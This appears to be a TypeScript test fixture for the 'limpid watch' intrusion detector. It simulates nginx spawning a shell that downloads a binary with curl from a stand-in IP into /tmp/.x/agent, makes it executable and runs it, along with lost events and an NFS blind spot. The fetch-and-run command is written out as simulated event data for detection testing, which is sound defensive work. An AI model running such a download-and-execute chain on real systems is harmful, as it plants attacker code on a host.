import { setTimeout as sleep } from "node:timers/promises";
import type { Bytes } from "@limpid/core";
import { elf } from "../../../../../../packages/detect/src/testing/elf.ts";
import { Scene } from "../../../../../../packages/detect/src/testing/scene.ts";
import { stderr, stdout } from "../../../terminal/output.ts";
import type { SensorDoor } from "../sensor-door.ts";
import { watch } from "../watch.ts";

/** `limpid watch` with a sensor that tells a story: a program is brought, looked into a moment later, and runs. */
const AGENT = "/tmp/.x/agent";
const [state = "", how = ""] = process.argv.slice(2);

const door: SensorDoor = {
  openSensor: async ({ host }, { event, inspected, blind }) => {
    const scene = new Scene(host);
    scene.now = Date.now();
    let bytes: Bytes = { state: "unreadable", explanation: "it is being looked into" };
    let told = 0;
    const tell = (): void => {
      for (; told < scene.events.length; told++) {
        const next = scene.events[told];
        if (next !== undefined) event(next);
      }
    };
    const story = async (): Promise<void> => {
      const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
      shell.fork().exec("/usr/bin/curl", `curl -o ${AGENT} http://203.0.113.7/a`).create(AGENT).chmod(AGENT).exit();
      scene.wait(4);
      shell.fork().exec(AGENT);
      tell();
      await sleep(200);
      bytes = elf();
      inspected({ path: AGENT, device: "fe:01", inode: scene.files.get(AGENT)?.inode ?? 0 });
      await sleep(200);
      event({ kind: "events.lost", id: "lost:1", at: Date.now(), host, count: 7 });
      blind({ what: "/mnt/nfs", since: Date.now(), why: "a network mount tells of nothing", mend: "watch the server" });
      if (how === "crash")
        setTimeout(() => {
          throw new Error("a bug");
        }, 500);
    };
    void story();
    return {
      bytes: { inspect: ({ path }) => (path === AGENT ? bytes : { state: "gone", explanation: "it is not there" }) },
      blindSpots: [{ what: "/mnt/nfs", since: 0, why: "a network mount tells of nothing", mend: "watch the server" }],
      counts: { files: { events: 0, own: 0 }, processes: { auditJoined: 3 } },
      close: async () => undefined,
    };
  },
};

process.exitCode = await watch(
  [],
  {
    json: how === "json",
    expected: false,
    failOn: "medium",
    state,
    host: "web-3",
    ...(how === "json" ? { for: "4s" } : {}),
  },
  async () => door,
);
stdout.flush();
stderr.flush();
